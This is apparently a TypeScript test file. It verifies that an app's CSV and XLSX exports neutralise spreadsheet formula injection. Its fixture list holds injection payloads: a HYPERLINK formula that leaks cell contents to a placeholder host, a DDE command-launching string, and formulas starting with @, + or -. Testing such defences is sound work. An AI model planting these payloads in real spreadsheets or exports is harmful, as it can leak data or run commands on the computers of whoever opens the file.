/**
 * Spreadsheet formula injection: names and texts that staff or members typed ("=HYPERLINK(…)", "@SUM(1)") leave
 * every CSV and XLSX export as text that no spreadsheet runs, with the leading apostrophe of `safeCell`; numbers,
 * negative ones too, stay numbers. The XLSX files are read back with exceljs.
 */
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AgendaDto, AgendaThemeDto } from '../shared/agenda.js';
import { agendaCsv, agendaXlsx } from './services/agenda-export.js';
import { type BallotFixture, ballotFixture, closeTestRound, insertTestRound } from './testing/ballot-fixture.js';
import { createTestApp, type TestApp } from './testing/test-app.js';

const ATTACKS = [
  '=HYPERLINK("http://x.test/?leak="&A1,"Klik hier")',
  '@SUM(1)',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0"
];

function csvCells(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' }).data;
}

async function xlsxCells(bytes: Buffer): Promise<ExcelJS.Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  }
  return cells;
}

/** Every attack appears, neutralised; no cell holds a formula or a text that starts like one. */
function expectNeutralised(values: unknown[], attacks: readonly string[] = ATTACKS) {
  for (const attack of attacks) expect(values).toContain(`'${attack}`);
  for (const value of values) {
    if (typeof value === 'string') expect(value, JSON.stringify(value)).not.toMatch(/^[=+\-@\t\r]/);
  }
}

function expectNoFormulas(cells: ExcelJS.Cell[]) {
  for (const cell of cells) {
    expect([ExcelJS.ValueType.Formula, ExcelJS.ValueType.Hyperlink], cell.address).not.toContain(cell.type);
    expect(cell.formula, cell.address).toBeFalsy();
  }
}

describe('the agenda export', () => {
  const theme = (id: number, name: string, description: string): AgendaThemeDto => ({
    id,
    name,
    description,
    keywords: [],
    questionCount: 3,
    isAdHoc: false,
    adHocJustification: null,
    evidenceStatus: 'unchecked',
    plannedOutput: null,
    outputs: []
  });
  const agenda: AgendaDto = {
    cycle: { id: 1, name: '=Kennisagenda', startsOn: '2024-09-01', endsOn: '2027-08-31' },
    version: null,
    schoolYears: [
      {
        startsOn: '2024-09-01',
        endsOn: '2025-08-31',
        label: '2024–2025',
        themes: ATTACKS.map((attack, i) => theme(i + 1, attack, ATTACKS[ATTACKS.length - 1 - i]!))
      }
    ],
    overarching: [theme(99, 'Lezen', '@SUM(1)')]
  };

  it('as CSV', () => {
    const cells = csvCells(agendaCsv(agenda)).flat();
    expectNeutralised(cells);
    expect(cells).toContain('Lezen');
  });

  it('as XLSX: text cells, neutralised, never formulas', async () => {
    const cells = await xlsxCells(await agendaXlsx(agenda));
    expectNoFormulas(cells);
    // XML reads a bare CR back as a LF.
    const lf = (text: string) => text.replace(/\r/g, '\n');
    expectNeutralised(
      cells.map((c) => c.value),
      ATTACKS.map(lf)
    );
    expect(cells.find((c) => c.value === 3)?.type).toBe(ExcelJS.ValueType.Number);
  });
});

describe('the analytics export of a round', () => {
  let t: TestApp;
  let app: FastifyInstance;
  let f: BallotFixture;
  let roundId: number;
  const NAMES = {
    theme: '=HYPERLINK("http://x.test","klik")',
    committee: '@SUM(1)',
    criterion: '+cmd',
    member: '-Mallory'
  };

  beforeAll(async () => {
    t = await createTestApp();
    app = t.app;
    f = await ballotFixture(app);
    const round = await insertTestRound(app.db, {
      cycleId: f.cycleId,
      themeIds: [f.themes.rekenen, f.themes.pesten, f.themes.lezen],
      committeeIds: [f.committees.user],
      criteria: [NAMES.criterion]
    });
    roundId = round.id;
    const scores = [f.members.a, f.members.b].flatMap((m, i) =>
      [f.themes.rekenen, f.themes.pesten, f.themes.lezen].map((theme, j) => ({
        round_id: round.id,
        user_id: m.userId,
        theme_id: theme,
        criterion_id: round.criteria[0]!,
        value: 1 + ((i + j) % 5),
        dont_know: false
      }))
    );
    await app.db.insertInto('scores').values(scores).execute();
    await closeTestRound(app.db, round.id);
    // Names as someone could type them in the app.
    await app.db.updateTable('themes').set({ name: NAMES.theme }).where('id', '=', f.themes.rekenen).execute();
    await app.db.updateTable('committees').set({ name: NAMES.committee }).where('id', '=', f.committees.user).execute();
    await app.db.updateTable('users').set({ name: NAMES.member }).where('id', '=', f.members.a.userId).execute();
  }, 60_000);

  afterAll(async () => {
    await t?.close();
  });

  it.each([
    { table: 'ranking', names: [NAMES.theme] },
    { table: 'cells', names: [NAMES.theme, NAMES.committee, NAMES.criterion] },
    { table: 'raters', names: [NAMES.member, NAMES.committee] }
  ])('as CSV, table $table', async ({ table, names }) => {
    const response = await f.staff.request('GET', `/api/rounds/${roundId}/analytics.csv?table=${table}`);
    expect(response.statusCode, response.body).toBe(200);
    expectNeutralised(csvCells(response.body).flat(), names);
  });

  it('as XLSX: text cells, neutralised, never formulas; numbers stay numbers (CSV: see lib/csv.test.ts)', async () => {
    const response = await f.staff.request('GET', `/api/rounds/${roundId}/analytics.xlsx`);
    expect(response.statusCode).toBe(200);
    const cells = await xlsxCells(response.rawPayload);
    expectNoFormulas(cells);
    expectNeutralised(
      cells.map((c) => c.value),
      Object.values(NAMES)
    );
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Number)).toBe(true);
  });
});
